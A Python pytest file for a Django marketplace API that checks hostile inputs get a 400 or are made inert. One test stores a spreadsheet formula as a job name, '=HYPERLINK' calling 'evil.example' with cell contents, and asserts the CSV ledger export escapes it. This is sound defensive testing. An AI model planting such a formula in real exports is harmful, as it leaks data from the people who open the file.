"""Small hostile inputs that were accepted or answered with a 500: each is now a clear 400 or made inert."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.utils import timezone
from rest_framework.test import APIClient

from marketplace.models import Activation, Job
from marketplace.services.billing import activation_report

from . import factories

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("redis_url")]


def client_for(user) -> APIClient:
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Token {factories.token(user)}")
    return api


@pytest.mark.parametrize("manifest", [[1, 2], 7, "sha256", None])
def test_a_snapshot_manifest_that_is_no_object_is_a_400(settings, manifest):
    settings.CELERY_TASK_ALWAYS_EAGER = True
    owner = factories.user()
    api, job = client_for(owner), factories.job(owner)
    api.post(f"/api/jobs/{job.pk}/start/")

    reply = api.post(f"/api/jobs/{job.pk}/snapshots/", {"version": 1, "url": "http://learner.example.net:9000/v1/",
                                                         "manifest": manifest}, format="json")

    assert reply.status_code == 400, reply.content
    assert reply.json()["detail"].startswith("manifest:")


def test_a_budget_body_with_an_unknown_key_is_a_400_and_the_budget_stays(settings):
    owner = factories.user()
    api, job = client_for(owner), factories.job(owner)
    assert api.post(f"/api/jobs/{job.pk}/budget/", {"budget_usd": 5.0}, format="json").status_code == 200

    reply = api.post(f"/api/jobs/{job.pk}/budget/", {"budget_usd": None, "budget": 3}, format="json")

    assert reply.status_code == 400 and reply.json()["detail"].startswith("budget: unknown field"), reply.content
    assert Job.objects.get(pk=job.pk).spec["budget_usd"] == 5.0  # not lifted to "no cap"


def test_a_job_name_that_is_a_formula_reaches_the_providers_csv_as_text(settings):
    settings.ECHO2 = {**settings.ECHO2, "WORKER_TIMEOUT_S": 1000.0}
    owner, provider = factories.user(), factories.user()
    worker, _ = factories.worker(provider, price="3.6", name="@rig")
    job = factories.job(owner)
    Job.objects.filter(pk=job.pk).update(status=Job.Status.RUNNING, started_at=timezone.now(),
                                         name='=HYPERLINK("http://evil.example/?"&A1,"refund")')
    t0 = timezone.now() - timedelta(seconds=100)
    act = Activation.objects.create(job=job, worker=worker, price_per_hour=worker.price_per_hour, state="generating",
                                    reported_at=t0, started_at=t0)
    activation_report(activation_id=act.pk, at=t0 + timedelta(seconds=10), state="generating")

    sheet = client_for(provider).get("/api/ledger/?format=csv").content.decode()

    rows = list(csv.DictReader(io.StringIO(sheet)))
    assert rows[0]["job_name"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"refund\")"
    assert rows[0]["worker_name"] == "'@rig"
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row.values() if cell)
